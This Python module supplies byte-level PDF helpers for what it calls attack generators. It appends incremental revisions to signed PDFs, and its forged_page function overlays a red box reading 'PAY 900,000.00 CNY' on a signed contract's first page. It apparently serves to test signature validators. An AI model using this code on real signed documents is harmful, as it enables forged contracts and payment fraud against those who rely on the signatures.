"""Byte-level PDF editing for the attack generators: facts about a file, objects, appended revisions.

Attacks need bytes that no well-behaved writer produces (revisions without cross-reference tables,
objects defined twice, relocated signed parts), so they are built here by hand; pyHanko only reads.
"""

from __future__ import annotations

import io
from dataclasses import dataclass

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.reader import PdfFileReader

RED_BOX = b"q 0.85 0 0 rg 60 560 480 170 re f Q\n"
FORGED_TEXT = b"BT /Forged 30 Tf 1 1 1 rg 80 630 Td (PAY 900,000.00 CNY) Tj ET\n"
FORGED_CONTENT = RED_BOX + FORGED_TEXT


@dataclass(frozen=True)
class Facts:
    """What the generators need to know about a signed file."""

    size: int  # the trailer's /Size
    root: bytes  # "N G R"
    info: bytes | None
    ids: bytes | None
    startxref: int
    revision_xrefs: tuple[int, ...]  # xref offset of each revision, oldest first
    page: int  # object number of the first page
    page_dict: generic.DictionaryObject
    contents: int  # object number of the first page's content stream


def facts(pdf: bytes) -> Facts:
    reader = PdfFileReader(io.BytesIO(pdf))
    trailer = reader.trailer
    page_ref = reader.root["/Pages"]["/Kids"].raw_get(0)
    page = page_ref.get_object()
    contents = page.raw_get("/Contents")
    if isinstance(contents, generic.ArrayObject):
        contents = contents.raw_get(0)
    revisions = tuple(reader.xrefs.get_startxref_for_revision(i) for i in range(reader.xrefs.total_revisions))
    return Facts(
        size=int(trailer["/Size"]),
        root=_ref(trailer.raw_get("/Root")),
        info=_ref(trailer.raw_get("/Info")) if "/Info" in trailer else None,
        ids=serialize(trailer["/ID"]) if "/ID" in trailer else None,
        startxref=revisions[-1],
        revision_xrefs=revisions,
        page=page_ref.idnum,
        page_dict=page,
        contents=contents.idnum,
    )


def _ref(obj: generic.IndirectObject) -> bytes:
    return b"%d %d R" % (obj.idnum, obj.generation)


def serialize(obj: generic.PdfObject) -> bytes:
    out = io.BytesIO()
    obj.write_to_stream(out, None)
    return out.getvalue()


def stream(data: bytes, extra: bytes = b"") -> bytes:
    """The body of a stream object (dictionary and data)."""
    return b"<< /Length %d %s>>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def indirect(number: int, body: bytes) -> bytes:
    return b"%d 0 obj\n" % number + body + b"\nendobj\n"


def fonts_of(resources: generic.DictionaryObject) -> generic.DictionaryObject:
    """A copy of a resource dictionary's /Font (``get`` would return it unresolved, hence the test)."""
    return generic.DictionaryObject(resources["/Font"] if "/Font" in resources else {})  # noqa: SIM401


def forged_page(doc: Facts, content: bytes = FORGED_CONTENT) -> dict[int, bytes]:
    """Objects that make the first page show a red box and 'PAY 900,000.00 CNY' on top of the contract.

    The page keeps its own content and gets a second content stream and a Helvetica font.
    """
    font, extra = doc.size, doc.size + 1
    page = generic.DictionaryObject(doc.page_dict)
    resources = generic.DictionaryObject(page["/Resources"])
    fonts = fonts_of(resources)
    fonts[generic.NameObject("/Forged")] = generic.IndirectObject(font, 0, None)
    resources[generic.NameObject("/Font")] = fonts
    page[generic.NameObject("/Resources")] = resources
    page[generic.NameObject("/Contents")] = generic.ArrayObject(
        [generic.IndirectObject(doc.contents, 0, None), generic.IndirectObject(extra, 0, None)])
    return {
        doc.page: serialize(page),
        font: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        extra: stream(content),
    }


def body(objects: dict[int, bytes], at: int) -> tuple[bytes, dict[int, int]]:
    """Objects laid out from file offset ``at``: (bytes, offsets)."""
    out = bytearray()
    offsets = {}
    for number, obj in objects.items():
        offsets[number] = at + len(out)
        out += indirect(number, obj)
    return bytes(out), offsets


def xref_table(offsets: dict[int, int]) -> bytes:
    out = bytearray(b"xref\n0 1\n0000000000 65535 f \n")
    for number in sorted(offsets):
        out += b"%d 1\n%010d 00000 n \n" % (number, offsets[number])
    return bytes(out)


def trailer(doc: Facts, size: int, prev: int, root: bytes | None = None) -> bytes:
    entries = [b"/Size %d" % size, b"/Root " + (root or doc.root), b"/Prev %d" % prev]
    if doc.info:
        entries.append(b"/Info " + doc.info)
    if doc.ids:
        entries.append(b"/ID " + doc.ids)
    return b"trailer\n<< " + b" ".join(entries) + b" >>\n"


def append_revision(pdf: bytes, objects: dict[int, bytes], *, prev: int | None = None,
                    root: bytes | None = None) -> bytes:
    """A well-formed incremental update: the objects, a cross-reference table and a trailer."""
    doc = facts(pdf)
    start = pdf if pdf.endswith(b"\n") else pdf + b"\n"
    data, offsets = body(objects, len(start))
    xref_at = len(start) + len(data)
    size = max([doc.size, *[n + 1 for n in objects]])
    tail = xref_table(offsets) + trailer(doc, size, doc.startxref if prev is None else prev, root)
    return start + data + tail + b"startxref\n%d\n%%%%EOF\n" % xref_at
